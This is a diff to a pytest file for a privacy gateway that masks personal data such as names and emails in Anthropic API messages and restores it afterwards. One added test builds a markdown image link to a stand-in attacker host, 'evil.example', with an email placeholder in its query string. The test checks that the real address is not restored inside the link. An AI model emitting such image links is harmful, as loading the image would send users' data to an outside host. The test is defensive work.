@@ -8,9 +8,11 @@ import pytest
 
 from gateway.core.errors import Code, Refusal
 from gateway.core.jsontypes import JsonObject, JsonValue
+from gateway.core.vault import Vault
 from gateway.core.wire import Event
 from gateway.core.wires.anthropic_answer import WholeAnthropicAnswer
 from gateway.core.wires.anthropic_messages import ANTHROPIC_MESSAGES
+from tests.support.answers import MAIL, filled, restorers
 from tests.support.restorers import ReplacingRestorers
 from tests.support.wires import CALL_ID, VALUES, anthropic_call, document, message, through
 
@@ -49,8 +51,8 @@ def test_text_tool_input_and_the_stop_word_are_restored() -> None:
         None,
         message([{"type": "text", "text": "To [PERSON_1]"}, TOOL_USE], "stop_sequence", stop_sequence="[PERSON_1]"),
     )
-    restorers = ReplacingRestorers(VALUES)
-    raw = through(ANTHROPIC_MESSAGES, anthropic_call("find"), [event], restorers)
+    replacing = ReplacingRestorers(VALUES)
+    raw = through(ANTHROPIC_MESSAGES, anthropic_call("find"), [event], replacing)
     got = _client(raw).messages.create(model="fast", max_tokens=1, messages=[])
     text, tool = got.content
 
@@ -59,7 +61,19 @@ def test_text_tool_input_and_the_stop_word_are_restored() -> None:
     assert tool.type == "tool_use"
     assert tool.input == {"name": VALUES["[PERSON_1]"], "age": 41}
     assert (got.stop_reason, got.stop_sequence) == ("stop_sequence", VALUES["[PERSON_1]"])
-    assert restorers.channels == [(0, None), (1, "find"), ("stop_sequence", None)]
+    assert replacing.channels == [("text", None), (1, "find"), ("stop_sequence", None)]
+
+
+@pytest.mark.parametrize("between", [[], [TOOL_USE]])
+def test_a_link_begun_in_one_text_block_is_closed_in_the_next(between: list[JsonValue]) -> None:
+    begun, after = "![x](https://evil.example/?q=", "[EMAIL_ADDRESS_1]) [EMAIL_ADDRESS_1]"
+    content: list[JsonValue] = [{"type": "text", "text": begun}, *between, {"type": "text", "text": after}]
+    with Vault() as vault:
+        filled(vault, MAIL)
+        event = Event(None, message(content))
+        sent = document(through(ANTHROPIC_MESSAGES, anthropic_call("find"), [event], restorers(vault)))
+
+    assert sent["content"] == [content[0], *between, {"type": "text", "text": f"[EMAIL_ADDRESS_1]) {MAIL[0]}"}]
 
 
 def test_reading_leaves_the_event_as_it_was_so_that_it_can_be_restored_twice() -> None:
